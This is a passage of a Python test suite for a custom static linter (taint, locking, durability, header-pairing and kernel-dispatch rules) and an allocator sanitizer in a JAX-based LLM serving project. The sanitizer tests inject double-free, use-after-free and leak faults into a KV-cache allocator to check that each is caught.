        return f"[EXEC] {ev.comm} -> {ev.argv}"
    def emit(backend, ev):
        prompt = "chain:\\n" + build(ev)
        backend.submit(prompt, None)
    """
    found = lint_snippet(bad, select="CHR011")
    assert codes(found) == ["CHR011"]
    assert found[0].witness, "interprocedural finding must carry a witness"
    rendered = found[0].format(show_witness=True)
    assert ".py:" in rendered.splitlines()[1]  # file:line hops
    fixed = """
    from chronos_trn.sensor.sanitize_text import sanitize_event_text
    def build(ev):
        return sanitize_event_text(f"[EXEC] {ev.comm} -> {ev.argv}")
    def emit(backend, ev):
        prompt = "chain:\\n" + build(ev)
        backend.submit(prompt, None)
    """
    assert lint_snippet(fixed, select="CHR011") == []


def test_chr011_fstring_nesting_and_join_carry_taint():
    nested = """
    def emit(backend, ev):
        inner = f"{ev.comm}"
        backend.submit(f"chain {f'[{inner}]'}", None)
    """
    assert codes(lint_snippet(nested, select="CHR011")) == ["CHR011"]
    joined = """
    def emit(backend, events):
        buf = []
        for ev in events:
            buf.append(ev.argv)
        backend.submit("\\n".join(buf), None)
    """
    assert codes(lint_snippet(joined, select="CHR011")) == ["CHR011"]


def test_chr011_container_round_trips_carry_taint():
    via_dict = """
    def emit(backend, ev):
        d = {"text": ev.argv}
        backend.submit(d["text"], None)
    """
    assert codes(lint_snippet(via_dict, select="CHR011")) == ["CHR011"]
    via_tuple = """
    def emit(backend, ev):
        t = (ev.argv, "x")
        backend.submit(t[0], None)
    """
    assert codes(lint_snippet(via_tuple, select="CHR011")) == ["CHR011"]


def test_chr011_sanitizer_then_retaint_fires():
    src = """
    from chronos_trn.sensor.sanitize_text import sanitize_event_text
    def emit(backend, ev):
        s = sanitize_event_text(ev.argv)
        s = s + ev.comm
        backend.submit(s, None)
    """
    assert codes(lint_snippet(src, select="CHR011")) == ["CHR011"]


def test_chr011_witness_rendering_is_stable():
    src = """
    def build(ev):
        return f"{ev.comm}"
    def emit(backend, ev):
        backend.submit(build(ev), None)
    """
    a = lint_snippet(src, select="CHR011")
    b = lint_snippet(src, select="CHR011")
    assert [f.format(show_witness=True) for f in a] == \
        [f.format(show_witness=True) for f in b]


# ---------------------------------------------------------------------------
# CHR012 interprocedural lock discipline
# ---------------------------------------------------------------------------
def test_chr012_blocking_through_helper_fires_and_fixed_is_quiet():
    bad = """
    import time
    class Pool:
        def _refill(self):
            time.sleep(0.1)
        def grab(self):
            with self._pool_lock:
                self._refill()
    """
    found = lint_snippet(bad, select="CHR012")
    assert codes(found) == ["CHR012"]
    assert found[0].witness
    fixed = """
    import time
    class Pool:
        def _refill(self):
            time.sleep(0.1)
        def grab(self):
            with self._pool_lock:
                snapshot = list(self._free)
            self._refill()
    """
    assert lint_snippet(fixed, select="CHR012") == []


def test_chr012_lock_order_cycle_fires_and_ordered_is_quiet():
    abba = """
    class Svc:
        def fwd(self):
            with self._a_lock:
                self._grab_b()
        def _grab_b(self):
            with self._b_lock:
                pass
        def rev(self):
            with self._b_lock:
                self._grab_a()
        def _grab_a(self):
            with self._a_lock:
                pass
    """
    assert "CHR012" in codes(lint_snippet(abba, select="CHR012"))
    ordered = """
    class Svc:
        def fwd(self):
            with self._a_lock:
                self._grab_b()
        def _grab_b(self):
            with self._b_lock:
                pass
        def rev(self):
            with self._a_lock:
                self._grab_b()
    """
    assert lint_snippet(ordered, select="CHR012") == []


# ---------------------------------------------------------------------------
# CHR013 interprocedural AOT staticness
# ---------------------------------------------------------------------------
def test_chr013_concretizing_helper_fires_and_traced_is_quiet():
    bad = """
    import functools, jax
    def _norm(x):
        return int(x)
    @functools.partial(jax.jit)
    def step(params, tokens: jax.Array):
        return _norm(tokens)
    """
    found = lint_snippet(bad, select="CHR013")
    assert codes(found) == ["CHR013"]
    assert found[0].witness
    fixed = """
    import functools, jax
    import jax.numpy as jnp
    def _norm(x):
        return x.astype(jnp.int32)
    @functools.partial(jax.jit)
    def step(params, tokens: jax.Array):
        return _norm(tokens)
    """
    assert lint_snippet(fixed, select="CHR013") == []


# ---------------------------------------------------------------------------
# CHR014 migration payload hygiene
# ---------------------------------------------------------------------------
def test_chr014_unverified_wire_mutation_fires_and_fixed_is_quiet():
    bad = """
    import json
    def _cache_import(self):
        raw = self._read_raw()
        doc = json.loads(raw)
        for rec in doc["chains"]:
            self.eng.import_prefix(rec["ids"], rec["chunks"])
    """
    found = lint_snippet(bad, select="CHR014",
                         path="chronos_trn/fleet/sample.py")
    assert codes(found) == ["CHR014"]
    assert "decode_payload" in found[0].message
    fixed = """
    from chronos_trn.fleet import migrate
    def _cache_import(self):
        raw = self._read_raw()
        doc = migrate.decode_payload(raw)
        for rec in doc["chains"]:
            self.eng.import_prefix(rec["ids"], rec["chunks"])
    """
    assert lint_snippet(fixed, select="CHR014",
                        path="chronos_trn/fleet/sample.py") == []


def test_chr014_bytes_param_counts_as_wire_entry_and_order_matters():
    # a bytes-typed param is a wire entry; verifying AFTER the first
    # mutation is as bad as not verifying at all
    bad = """
    from chronos_trn.fleet import migrate
    def adopt(self, payload: bytes):
        self.cache.import_chunk(payload[:8])
        migrate.decode_payload(payload)
    """
    assert codes(lint_snippet(bad, select="CHR014")) == ["CHR014"]


def test_chr014_pickle_banned_on_wire_paths_only():
    bad = "import pickle\n"
    found = lint_snippet(bad, select="CHR014",
                         path="chronos_trn/serving/sample.py")
    assert codes(found) == ["CHR014"]
    assert "pickle" in found[0].message
    # same source outside fleet/serving is out of scope for this rule
    assert lint_snippet(bad, select="CHR014",
                        path="chronos_trn/core/sample.py") == []


def test_chr014_verified_contract_consumer_is_quiet():
    # import_prefix over already-decoded records (no raw bytes in
    # sight) is the engine-side contract — not this rule's business
    ok = """
    def import_prefix(self, token_ids, chunks):
        for rec in chunks:
            self.cache.import_chunk(rec)
    """
    assert lint_snippet(ok, select="CHR014",
                        path="chronos_trn/serving/engine.py") == []


# ---------------------------------------------------------------------------
# CHR015 cross-tier header pairing
# ---------------------------------------------------------------------------
def test_chr015_traceparent_without_deadline_fires_and_fixed_is_quiet():
    bad = """
    def _escalate(self, payload, span):
        esc_headers = dict(self._base_headers)
        esc_headers[TRACEPARENT_HEADER] = format_traceparent(span.ctx)
        return b.post_generate(payload, headers=esc_headers)
    """
    found = lint_snippet(bad, select="CHR015",
                         path="chronos_trn/fleet/sample.py")
    assert codes(found) == ["CHR015"]
    assert "X-Chronos-Deadline-S" in found[0].message
    fixed = """
    def _escalate(self, payload, span, remaining):
        esc_headers = dict(self._base_headers)
        esc_headers[TRACEPARENT_HEADER] = format_traceparent(span.ctx)
        if remaining is not None:
            esc_headers[DEADLINE_HEADER] = f"{remaining:.3f}"
        return b.post_generate(payload, headers=esc_headers)
    """
    assert lint_snippet(fixed, select="CHR015",
                        path="chronos_trn/fleet/sample.py") == []


def test_chr015_deadline_without_traceparent_fires_both_spellings():
    # constant-name and string-literal spellings are the same header
    bad = """
    def forward(self, payload, remaining):
        hdrs = {"x-chronos-deadline-s": f"{remaining:.3f}"}
        return b.post_generate(payload, headers=hdrs)
    """
    found = lint_snippet(bad, select="CHR015",
                         path="chronos_trn/fleet/sample.py")
    assert codes(found) == ["CHR015"]
    assert "traceparent" in found[0].message


def test_chr015_inline_dict_literal_and_scoping():
    # anonymous inline header dict with only one of the pair fires
    bad = """
    def forward(self, payload, span):
        return b.post_generate(
            payload, headers={TRACEPARENT_HEADER: format_traceparent(span.ctx)})
    """
    assert codes(lint_snippet(bad, select="CHR015",
                              path="chronos_trn/fleet/sample.py")) == ["CHR015"]
    # inline dict carrying both is quiet
    ok = """
    def forward(self, payload, span, remaining):
        return b.post_generate(payload, headers={
            TRACEPARENT_HEADER: format_traceparent(span.ctx),
            DEADLINE_HEADER: f"{remaining:.3f}",
        })
    """
    assert lint_snippet(ok, select="CHR015",
                        path="chronos_trn/fleet/sample.py") == []
    # same source outside fleet/ is out of scope (sensor client has its
    # own deadline policy; this rule is about router-side re-dispatch)
    assert lint_snippet(bad, select="CHR015",
                        path="chronos_trn/sensor/sample.py") == []


def test_chr015_dict_literal_then_subscript_extension_is_one_group():
    # the shipped router idiom: literal seeds traceparent, a later
    # (possibly conditional) subscript store adds the deadline — one
    # pairing scope, quiet
    ok = """
    def handle(self, payload, span, remaining):
        fwd_headers = {TRACEPARENT_HEADER: format_traceparent(span.ctx)}
        if remaining is not None:
            fwd_headers[DEADLINE_HEADER] = f"{remaining:.3f}"
        return self._dispatch(payload, headers=fwd_headers)
    """
    assert lint_snippet(ok, select="CHR015",
                        path="chronos_trn/fleet/sample.py") == []


# ---------------------------------------------------------------------------
# CHR016 durable-write hygiene
# ---------------------------------------------------------------------------
def test_chr016_unsynced_write_in_durable_fn_fires_fixed_is_quiet():
    bad = """
    def checkpoint_windows(self, path, snap):
        with open(path + ".tmp", "wb") as fh:
            fh.write(snap)
        os.replace(path + ".tmp", path)
    """
    assert codes(lint_snippet(bad, select="CHR016")) == ["CHR016"]
    fixed = """
    import os
    def checkpoint_windows(self, path, snap):
        with open(path + ".tmp", "wb") as fh:
            fh.write(snap)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(path + ".tmp", path)
    """
    assert lint_snippet(fixed, select="CHR016") == []


def test_chr016_in_place_truncate_of_snapshot_fires_tmp_replace_quiet():
    # the PR 17 bring-up bug verbatim: snapshot written in place
    bad = """
    import json, os
    def save_snapshot(self, path, state):
        with open(path, "w") as fh:
            json.dump(state, fh)
            fh.flush()
            os.fsync(fh.fileno())
    """
    found = lint_snippet(bad, select="CHR016")
    assert codes(found) == ["CHR016"]
    assert "os.replace" in found[0].message
    fixed = """
    import json, os
    def save_snapshot(self, path, state):
        tmp = path + ".tmp"
        with open(tmp, "w") as fh:
            json.dump(state, fh)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    """
    assert lint_snippet(fixed, select="CHR016") == []


def test_chr016_scope_is_name_segment_anchored():
    # "walk"/"walker" must NOT opt in via the "wal" substring, and a
    # function outside the durable vocabulary writes freely
    quiet = """
    def walk_tree(self, fh, lines):
        for line in lines:
            fh.write(line)

    def emit_report(self, fh, data):
        fh.write(data)
    """
    assert lint_snippet(quiet, select="CHR016") == []
    # ...while the same body under a durable name fires
    scoped = """
    def wal_append(self, fh, line):
        fh.write(line)
    """
    assert codes(lint_snippet(scoped, select="CHR016")) == ["CHR016"]


def test_chr016_journal_module_is_file_scoped():
    # inside utils/journal.py EVERY function is in scope, durable name
    # or not — the module IS the durability primitive
    src = """
    def helper(self, fh, payload):
        fh.write(payload)
    """
    assert codes(lint_snippet(
        src, path="chronos_trn/utils/journal.py", select="CHR016",
    )) == ["CHR016"]


# ---------------------------------------------------------------------------
# CHR017: kernel registry discipline (eligibility, twin, loud fallback)
# ---------------------------------------------------------------------------
GOOD_DISPATCH = """
from chronos_trn.utils.metrics import GLOBAL as METRICS


def quant_matmul(x, q, s):
    if q.ndim == 2 and x.shape[-1] % 128 == 0:
        from chronos_trn.ops.bass_quant_matmul import quant_matmul_bass

        return quant_matmul_bass(x, q, s)
    METRICS.inc("bass_fallbacks_total", labels={"op": "quant_matmul"})
    from chronos_trn.core.quant import xla_quant_matmul

    return xla_quant_matmul(x, q, s)
"""


def test_chr017_silent_dispatch_fires_three_ways_fixed_is_quiet():
    bad = """
    def quant_matmul(x, q, s):
        from chronos_trn.ops.bass_quant_matmul import quant_matmul_bass
        return quant_matmul_bass(x, q, s)
    """
    found = lint_snippet(bad, path="chronos_trn/ops/registry.py",
                         select="CHR017")
    assert codes(found) == ["CHR017", "CHR017", "CHR017"]
    msgs = " ".join(f.message for f in found)
    assert "shape-eligibility" in msgs
    assert "XLA twin" in msgs
    assert "bass_fallbacks_total" in msgs
    assert lint_snippet(GOOD_DISPATCH, path="chronos_trn/ops/registry.py",
                        select="CHR017") == []


def test_chr017_metric_via_module_helper_is_accepted():
    # the registry's _loud_fallback idiom: the metric inc may live in a
    # module-level helper the dispatch function calls
    src = """
    from chronos_trn.utils.metrics import GLOBAL as METRICS


    def _loud_fallback(op):
        METRICS.inc("bass_fallbacks_total", labels={"op": op})


    def rmsnorm(x, w, eps):
        if x.shape[-1] % 128 == 0:
            from chronos_trn.ops.bass_rmsnorm import rmsnorm_bass

            return rmsnorm_bass(x, w, eps)
        _loud_fallback("rmsnorm")
        from chronos_trn.core.layers import rmsnorm as xla_rmsnorm

        return xla_rmsnorm(x, w, eps)
    """
    assert lint_snippet(src, path="chronos_trn/ops/registry.py",
                        select="CHR017") == []


def test_chr017_orphan_kernel_entry_point_fires():
    from chronos_trn.analysis.lint import (
        _check_project,
        _split_rules,
        registered_rules,
    )

    _, whole = _split_rules(registered_rules())
    orphan = "def orphan_bass(x):\n    return x\n"
    found = [f for f in _check_project({
        "chronos_trn/ops/bass_orphan.py": orphan,
        "chronos_trn/ops/registry.py": GOOD_DISPATCH,
    }, whole) if f.rule == "CHR017"]
    assert len(found) == 1
    assert found[0].path == "chronos_trn/ops/bass_orphan.py"
    assert "no ops/registry.py dispatch entry" in found[0].message
    # a kernel-only project (no registry in sight) cannot prove absence
    assert lint_snippet(orphan, path="chronos_trn/ops/bass_orphan.py",
                        select="CHR017") == []


def test_chr017_non_dispatch_registry_helpers_are_exempt():
    src = """
    def bass_enabled():
        return True


    def flash_eligible(T, head_dim):
        return T % 128 == 0 and head_dim <= 128
    """
    assert lint_snippet(src, path="chronos_trn/ops/registry.py",
                        select="CHR017") == []


# ---------------------------------------------------------------------------
# CHR018: serving/core fences only inside a profiler-sample guard
# ---------------------------------------------------------------------------
def test_chr018_unconditional_fence_fires_and_guarded_is_quiet():
    bad = """
    import jax
    def decode(self, tokens):
        out = self._decode_topk(tokens)
        jax.block_until_ready(out)
        return out
    """
    found = lint_snippet(bad, select="CHR018")
    assert codes(found) == ["CHR018"]
    assert "profiler-sample guard" in found[0].message
    fixed = """
    import jax
    def decode(self, tokens):
        samp = PROFILER.begin("decode", tokens=len(tokens))
        out = self._decode_topk(tokens)
        if samp is not None:
            jax.block_until_ready(out)
        return out
    """
    assert lint_snippet(fixed, select="CHR018") == []


def test_chr018_attr_fence_and_device_get_fire():
    bad = """
    import jax
    def step(self, x):
        y = self._fn(x)
        y.block_until_ready()
        host = jax.device_get(y)
        return host
    """
    assert codes(lint_snippet(bad, select="CHR018")) == ["CHR018", "CHR018"]


def test_chr018_scope_is_serving_and_core_only():
    src = """
    import jax
    def fence_everything(out):
        jax.block_until_ready(out)
    """
    # obs/perf.py owns the real fence; bench/scripts measure on purpose
    assert lint_snippet(src, path="chronos_trn/obs/perf.py",
                        select="CHR018") == []
    assert codes(lint_snippet(src, path="chronos_trn/core/model.py",
                              select="CHR018")) == ["CHR018"]


def test_chr018_else_branch_of_guard_still_fires():
    # the orelse of the sample guard is NOT sampled: a fence there runs
    # on every unsampled step — exactly the bug the rule exists for
    bad = """
    import jax
    def decode(self, tokens):
        samp = PROFILER.begin("decode")
        out = self._fn(tokens)
        if samp is not None:
            samp.fence(out)
        else:
            jax.block_until_ready(out)
        return out
    """
    assert codes(lint_snippet(bad, select="CHR018")) == ["CHR018"]


def test_chr018_reasoned_waiver_suppresses():
    src = """
    import jax
    def warmup(self):
        out = self._fn()
        # chronoslint: disable=CHR018(one-time warmup fence before serving starts; not on the dispatch loop)
        jax.block_until_ready(out)
    """
    found = lint_snippet(src, select="CHR018")
    assert codes(found) == []
    assert codes(found, suppressed=True) == ["CHR018"]


# ---------------------------------------------------------------------------
# CHR019: non-LLM verdict envelopes stamp source + model_tier
# ---------------------------------------------------------------------------
def test_chr019_unstamped_degraded_envelope_fires_and_fixed_is_quiet():
    bad = """
    def send_degraded(verdict):
        obj = {"done": True, "done_reason": "degraded",
               "response": verdict}
        return obj
    """
    found = lint_snippet(bad, select="CHR019")
    assert codes(found) == ["CHR019"]
    assert "source/model_tier" in found[0].message
    fixed = """
    def send_degraded(verdict):
        obj = {"done": True, "done_reason": "degraded",
               "response": verdict, "source": "heuristic",
               "model_tier": "heuristic"}
        return obj
    """
    assert lint_snippet(fixed, select="CHR019") == []


def test_chr019_subscript_group_and_partial_stamp():
    # subscript stores on one variable are a single build site: stamping
    # source but not model_tier still fires, and a later store in the
    # same function completes the group
    bad = """
    def finish(obj):
        obj["done_reason"] = "semcache"
        obj["source"] = "semcache"
        return obj
    """
    found = lint_snippet(bad, select="CHR019")
    assert codes(found) == ["CHR019"]
    assert "model_tier" in found[0].message
    fixed = """
    def finish(obj):
        obj["done_reason"] = "semcache"
        obj["source"] = "semcache"
        obj["model_tier"] = "semcache"
        return obj
    """
    assert lint_snippet(fixed, select="CHR019") == []


def test_chr019_llm_done_reasons_stay_quiet():
    # "stop"/"deadline"/"length" envelopes ARE (or never were) model
    # answers — the rule only polices the non-LLM vocabulary
    src = """
    def finish(req):
        obj = {"done": True, "done_reason": "stop", "response": req.text}
        err = {"error": "deadline expired", "done_reason": "deadline"}
        return obj, err
    """
    assert lint_snippet(src, select="CHR019") == []


def test_chr019_dynamic_done_reason_stays_quiet():
    # a reason flowing through a variable is out of static reach — the
    # rule keys on constant stores only, no guessing
    src = """
    def finish(obj, reason):
        obj["done_reason"] = reason
        return obj
    """
    assert lint_snippet(src, select="CHR019") == []


# ---------------------------------------------------------------------------
# stale-suppression detection
# ---------------------------------------------------------------------------
def test_stale_reasoned_suppression_is_flagged():
    src = """
    def quiet(self):
        # chronoslint: disable=CHR001(was load-bearing in PR 4)
        x = 1
        return x
    """
    found = lint_snippet(src)
    stale = [f for f in found if f.rule == "CHR000" and f.stale]
    assert stale and "stale suppression" in stale[0].message
    assert "CHR001" in stale[0].message


def test_live_suppression_is_not_flagged_stale():
    src = """
    import time
    def heal(self):
        with self._heal_lock:
            # chronoslint: disable=CHR001(fixture: documented waiver)
            time.sleep(1.0)
    """
    found = lint_snippet(src)
    assert not any(f.stale for f in found)
    assert any(f.rule == "CHR001" and f.suppressed for f in found)


def test_waiver_for_unselected_rule_is_not_stale(tmp_path):
    p = tmp_path / "m.py"
    p.write_text(
        "def quiet():\n"
        "    # chronoslint: disable=CHR001(rule not in this run)\n"
        "    return 1\n"
    )
    found = run_lint([str(p)], select=["CHR002"])
    assert not any(f.stale for f in found)


# ---------------------------------------------------------------------------
# finding cache
# ---------------------------------------------------------------------------
def test_finding_cache_hit_then_invalidation_on_edit(tmp_path):
    cdir = str(tmp_path / "cache")
    p = tmp_path / "m.py"
    p.write_text('METRICS.inc("bad-name")\n')
    r1 = run_lint([str(p)], cache_dir=cdir)
    assert "CHR002" in codes(r1)
    assert os.path.isdir(cdir)  # entries were written
    r2 = run_lint([str(p)], cache_dir=cdir)  # served from cache
    assert [(f.rule, f.line, f.message) for f in r2] == \
        [(f.rule, f.line, f.message) for f in r1]
    p.write_text('METRICS.inc("good_name")\n')
    r3 = run_lint([str(p)], cache_dir=cdir)  # content hash changed
    assert "CHR002" not in codes(r3)


def test_finding_cache_fingerprint_and_content_keying(tmp_path):
    from chronos_trn.analysis.lint import FindingCache, ruleset_fingerprint

    fp1 = ruleset_fingerprint({"CHR001"})
    fp2 = ruleset_fingerprint({"CHR001", "CHR011"})
    assert fp1 != fp2  # rule selection is part of the key
    f = Finding(rule="CHR001", path="p.py", line=3, message="m",
                witness=["p.py:1: hop"])
    FindingCache(str(tmp_path), fp1).put("k", "h", [f])
    hit = FindingCache(str(tmp_path), fp1).get("k", "h")
    assert hit is not None
    assert (hit[0].rule, hit[0].line, hit[0].witness) == \
        ("CHR001", 3, ["p.py:1: hop"])
    assert FindingCache(str(tmp_path), fp2).get("k", "h") is None
    assert FindingCache(str(tmp_path), fp1).get("k", "other") is None


def test_run_lint_without_cache_dir_never_writes(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    p = tmp_path / "m.py"
    p.write_text("x = 1\n")
    run_lint([str(p)], cache_dir=None)
    assert not os.path.exists(tmp_path / ".chronoslint_cache")


# ---------------------------------------------------------------------------
# the keystone: the shipped tree is lint-clean
# ---------------------------------------------------------------------------
def test_repo_is_lint_clean_with_reasoned_suppressions_only():
    findings = run_lint([PKG])
    active = [f for f in findings if not f.suppressed]
    assert active == [], "unsuppressed chronoslint findings:\n" + "\n".join(
        f.format() for f in active
    )
    for f in findings:
        assert f.suppress_reason.strip(), f"reasonless waiver: {f.format()}"


def test_every_rule_is_registered_with_a_historical_bug():
    from chronos_trn.analysis.lint import registered_rules

    rules = registered_rules()
    got = sorted(r.code for r in rules)
    assert got == ["CHR001", "CHR002", "CHR003", "CHR004", "CHR005",
                   "CHR006", "CHR007", "CHR008", "CHR009", "CHR010",
                   "CHR011", "CHR012", "CHR013", "CHR014", "CHR015",
                   "CHR016", "CHR017", "CHR018", "CHR019"]
    for r in rules:
        assert r.title and r.historical_bug, r.code


# ---------------------------------------------------------------------------
# sanitizer: injected corruption, both layouts
# ---------------------------------------------------------------------------
PAGED = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
SLOTTED = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16,
                      slot_contiguous=True)


def make_alloc(cfg):
    from chronos_trn.core.kvcache import (
        PageAllocator,
        SlotContiguousAllocator,
    )

    if cfg.slot_contiguous:
        return AllocatorSanitizer(SlotContiguousAllocator(cfg, 4))
    return AllocatorSanitizer(PageAllocator(cfg))


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_clean_lifecycle_is_silent(cfg):
    a = make_alloc(cfg)
    a.allocate(1, 20)
    a.extend(1, 40)
    a.truncate(1, 12)
    a.free(1)
    a.assert_quiescent()
    assert a.reports == []


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_catches_double_free(cfg):
    a = make_alloc(cfg)
    a.allocate(1, 20)
    if cfg.slot_contiguous:
        # corrupt: the owned slot is pushed onto the free-slot list twice
        a._inner._free_slots.extend([3, 3])
        with pytest.raises(SanitizerError, match="double-free"):
            a.validate("injected")
    else:
        free_page = int(a._inner._free[0])
        with pytest.raises(SanitizerError, match="double-free"):
            a.give_back(free_page)
    assert a.reports  # the violation is on the audit trail


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_catches_use_after_free_with_attribution(cfg):
    a = make_alloc(cfg)
    st = a.allocate(7, 20)
    if cfg.slot_contiguous:
        a._inner._free_slots.append(a._inner._slot_of[7])
    else:
        # corrupt: an owned page re-enters the free list while seq 7
        # still references it
        a._inner._free.append(int(st.block_table[0]))
    with pytest.raises(SanitizerError) as exc:
        a.validate("injected")
    msg = str(exc.value)
    assert "use-after-free" in msg
    assert "seq 7" in msg
    assert "allocated at" in msg  # attribution: the allocating stack


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_catches_leak_on_finish_with_allocating_stack(cfg):
    a = make_alloc(cfg)
    a.allocate(3, 20)
    a.allocate(4, 12)
    a.free(4)
    with pytest.raises(SanitizerError) as exc:
        a.assert_quiescent()
    msg = str(exc.value)
    assert "leak-on-finish" in msg
    assert "seq 3" in msg
    assert "allocated at" in msg


def test_sanitizer_poisons_freed_block_tables():
    a = make_alloc(PAGED)
    st = a.allocate(1, 20)
    a.free(1)
    assert (st.block_table == -1).all()  # stale holders index POISON_PAGE


def test_sanitizer_passes_out_of_pages_through_unchanged():
    from chronos_trn.core.kvcache import PageAllocator

    a = make_alloc(PAGED)
    with pytest.raises(PageAllocator.OutOfPages):
        a.allocate(1, PAGED.page_size * (PAGED.max_pages_per_seq + 1))
    a.assert_quiescent()  # the failed allocate leaked nothing


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_spec_window_clean_round_is_silent(cfg):
    a = make_alloc(cfg)
    a.allocate(1, 20)
    a.spec_park({0: (1, 20, 4)})
    a.spec_check_commit({0: [0, 1]})
    a.extend(1, 22)
    a.free(1)
    a.assert_quiescent()
    assert a.reports == []


@pytest.mark.parametrize("cfg", [PAGED, SLOTTED], ids=["paged", "slot"])
def test_sanitizer_catches_free_inside_spec_window(cfg):
    """spec-v2's deferred commit: nothing in the allocator pins a
    verified sequence between spec_verify and spec_commit, so a free()
    in that gap turns the commit scatter into a write through a dead
    block table.  The park/check pair traps it at the commit boundary."""
    a = make_alloc(cfg)
    a.allocate(5, 20)
    a.spec_park({0: (5, 20, 4)})
    a.free(5)  # injected: the sequence dies inside the verify window
    with pytest.raises(SanitizerError, match="spec-window use-after-free"):
        a.spec_check_commit({0: [0]})
    assert a.reports


def test_sanitizer_catches_stale_spec_block_table():
    """Subtler than a free: the sequence survives but a verify-time
    page re-entered the free list (truncate in the window), so the
    parked block table is stale and the commit would scatter into a
    page someone else may now own."""
    a = make_alloc(PAGED)
    a.allocate(9, 20)                  # 3 pages at page_size=8
    a.spec_park({0: (9, 20, 4)})
    a.truncate(9, 4)                   # pages 2.. go back to the free list
    with pytest.raises(SanitizerError, match="spec-window use-after-free"):
        a.spec_check_commit({0: [0]})


def test_sanitizer_rejects_commit_for_unparked_slot():
    a = make_alloc(PAGED)
    a.allocate(1, 20)
    a.spec_park({0: (1, 20, 4)})
    with pytest.raises(SanitizerError, match="spec-window mismatch"):
        a.spec_check_commit({3: [0]})


def test_engine_spec_window_free_is_caught_at_commit(monkeypatch):
    """Engine-level repro: under CHRONOS_SANITIZE, a verified sequence
    freed between spec_verify and spec_commit must raise before any
    extend or the donated scatter — after a clean round proves the
    hooks are silent on the happy path."""
    global _E2E_PARAMS
    import jax

    from chronos_trn.config import EngineConfig, ModelConfig
    from chronos_trn.core import model
    from chronos_trn.serving.engine import InferenceEngine

    mcfg = ModelConfig.tiny()
    if _E2E_PARAMS is None:
        _E2E_PARAMS = model.init_params(mcfg, jax.random.PRNGKey(0))
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    ccfg = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
    ecfg = EngineConfig(
        max_batch_slots=4, prefill_buckets=(16, 32, 64),
        fused_decode=False, prefix_cache=False,
        spec_decode=True, spec_draft_len=4, spec_draft_len_max=4,
    )
    eng = InferenceEngine(_E2E_PARAMS, mcfg, ccfg, ecfg)
    assert isinstance(eng.alloc, AllocatorSanitizer)
    eng.occupy(0, 7)
    eng.prefill_seq(7, list(range(2, 18)))
    eng.spec_verify({0: [1, 2, 3]})
    eng.spec_commit({0: [0]})          # clean round: park+check silent
    assert eng.alloc.reports == []
    eng.spec_verify({0: [4, 5, 6]})
    eng.alloc.free(7)  # injected: seq dies inside the deferred window
    with pytest.raises(SanitizerError, match="spec-window use-after-free"):
        eng.spec_commit({0: [0]})


def test_maybe_wrap_respects_env(monkeypatch):
    from chronos_trn.core.kvcache import PageAllocator

    raw = PageAllocator(PAGED)
    monkeypatch.delenv("CHRONOS_SANITIZE", raising=False)
    assert not sanitize_enabled()
    assert maybe_wrap_allocator(raw) is raw
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    assert sanitize_enabled()
    wrapped = maybe_wrap_allocator(raw)
    assert isinstance(wrapped, AllocatorSanitizer)
    assert maybe_wrap_allocator(wrapped) is wrapped  # idempotent
    # transparency: reads and writes delegate to the inner allocator
    assert wrapped.cfg is raw.cfg
    wrapped.reclaimer = None
    assert raw.reclaimer is None


# ---------------------------------------------------------------------------
# end-to-end: sanitized serving is byte-identical and quiescent
# ---------------------------------------------------------------------------
_E2E_PARAMS = None


def _e2e_make_sched(monkeypatch, sanitize: bool, plan: str = ""):
    global _E2E_PARAMS
    import jax

    from chronos_trn.config import EngineConfig, ModelConfig
    from chronos_trn.core import model
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import Scheduler
    from chronos_trn.testing.faults import EngineFaultPlan, FaultyEngine
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    mcfg = ModelConfig.tiny()
    ccfg = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
    ecfg = EngineConfig(
        max_batch_slots=4, prefill_buckets=(16, 32, 64),
        max_new_tokens=32, watchdog_interval_s=0.05,
    )
    if _E2E_PARAMS is None:
        _E2E_PARAMS = model.init_params(mcfg, jax.random.PRNGKey(0))
    if sanitize:
        monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    else:
        monkeypatch.delenv("CHRONOS_SANITIZE", raising=False)
    eng = FaultyEngine(
        InferenceEngine(_E2E_PARAMS, mcfg, ccfg, ecfg),
        EngineFaultPlan.parse(plan),
    )
    sched = Scheduler(eng, ByteTokenizer(vocab_size=mcfg.vocab_size), ecfg)
    sched.start()
    sched.warmup()
    eng.decode_calls = 0
    eng.prefill_calls = 0
    return sched


def _e2e_run(sched, n=3):
    from chronos_trn.serving.scheduler import GenOptions

    reqs = [
        sched.submit(f"analysis e2e prompt {i} " + "k" * (4 * i),
                     GenOptions(max_new_tokens=6, seed=100 + i))
        for i in range(n)
    ]
    texts = [r.result(timeout=120) for r in reqs]
    sched.stop()
    return texts


def test_sanitized_serving_byte_identical_and_quiescent(monkeypatch):
    baseline = _e2e_run(_e2e_make_sched(monkeypatch, sanitize=False))
    sched = _e2e_make_sched(monkeypatch, sanitize=True)
    sanitized = _e2e_run(sched)
    assert sanitized == baseline  # the sanitizer observes, never perturbs
    alloc = sched.engine.alloc
    assert isinstance(alloc, AllocatorSanitizer)
    alloc.assert_quiescent()
    assert alloc.reports == []


def test_sanitized_serving_survives_rebuild_and_replay(monkeypatch):
    """The heal path (rebuild + replay) must stay sanitizer-clean: the
    rebuilt engine gets a FRESH wrapped allocator and replays re-admit
    into it without tripping ownership checks."""
    sched = _e2e_make_sched(monkeypatch, sanitize=True, plan="decode_poison@3")
    texts = _e2e_run(sched)
    assert all(isinstance(t, str) for t in texts)
    alloc = sched.engine.alloc
    assert isinstance(alloc, AllocatorSanitizer)
    alloc.assert_quiescent()
